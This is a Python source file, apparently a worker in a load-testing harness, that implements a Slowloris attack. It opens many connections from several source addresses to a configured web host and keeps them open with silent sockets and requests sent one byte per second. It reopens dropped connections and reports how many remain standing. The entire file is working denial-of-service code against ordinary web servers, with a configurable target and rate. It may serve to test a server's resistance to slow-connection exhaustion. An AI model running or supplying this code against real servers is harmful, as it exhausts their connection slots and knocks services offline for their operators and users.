"""Connections that only occupy slots: silent ones, and ones that send an octet now and then and never finish."""

import resource
import select
import socket
import time
from contextlib import suppress
from typing import Any

SLOW_S = 1.0
SLOW_REQUEST = b"GET / HTTP/1.1\r\nHost: login.procomu.lan\r\nX-Padding: " + b"a" * 4_000
FILES = 30_000
OPENED_AT_ONCE = 50
"""Connections opened in one batch; the others are served between batches, so that the load is steady."""


class Slowloris:
    """`silent` and `slow` connections from the job's addresses in turn, reopened when they are closed (at most
    `per_second`, if given), for `seconds`. The result has the mean and the lowest number of open connections, once all
    had been opened, and the number at the end."""

    def __init__(self, job: dict[str, Any]) -> None:
        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(FILES, hard), hard))
        self._to, self._addresses = (job["to"], int(job["port"])), job["addresses"]
        self._silent, self._slow, self._seconds = int(job["silent"]), int(job["slow"]), float(job["seconds"])
        self._epoll = select.epoll()
        self._standing: dict[int, tuple[socket.socket, bool, str]] = {}
        self._wanted = [
            (self._addresses[number % len(self._addresses)], number < self._slow)
            for number in range(self._silent + self._slow)
        ]
        self._sent: dict[int, int] = {}
        self._counted: list[int] = []
        self._closed = self._opened = 0
        self._per_second = float(job.get("per_second", "inf"))
        self._began = time.monotonic()

    def run(self) -> dict[str, Any]:
        ends, looked = time.monotonic() + self._seconds, 0.0
        all_opened = False
        while (now := time.monotonic()) < ends:
            self._open_some()
            for handle, event in self._epoll.poll(0.005, 256):
                if event & (select.EPOLLHUP | select.EPOLLERR | select.EPOLLIN):
                    self._lost(handle)
            all_opened = all_opened or not self._wanted
            if now - looked > SLOW_S:
                looked = now
                self._send_an_octet()
                if all_opened:
                    self._counted.append(len(self._standing))
        result = self._result()
        for handle in list(self._standing):
            self._standing.pop(handle)[0].close()
        return result

    def _result(self) -> dict[str, Any]:
        counted = self._counted or [0]
        return {
            "standing": round(sum(counted) / len(counted)),
            "standing_least": min(counted),
            "standing_last": len(self._standing),
            "closed_by_the_node": self._closed,
        }

    def _open_some(self) -> None:
        may = self._per_second * (time.monotonic() - self._began) - self._opened
        for _ in range(int(min(OPENED_AT_ONCE, len(self._wanted), may))):
            self._opened += 1
            address, is_slow = self._wanted.pop()
            sock = socket.socket()
            sock.setblocking(False)
            sock.setsockopt(socket.SOL_IP, socket.IP_BIND_ADDRESS_NO_PORT, 1)
            sock.bind((address, 0))
            sock.connect_ex(self._to)
            self._standing[sock.fileno()] = sock, is_slow, address
            self._epoll.register(sock, select.EPOLLIN | select.EPOLLRDHUP)

    def _lost(self, handle: int) -> None:
        sock, is_slow, address = self._standing.pop(handle)
        self._sent.pop(handle, None)
        sock.close()
        self._closed += 1
        self._wanted.append((address, is_slow))

    def _send_an_octet(self) -> None:
        for handle, (sock, is_slow, _) in list(self._standing.items()):
            if is_slow:
                place = self._sent.get(handle, 0)
                with suppress(OSError):
                    sock.send(SLOW_REQUEST[place : place + 1])
                    self._sent[handle] = place + 1
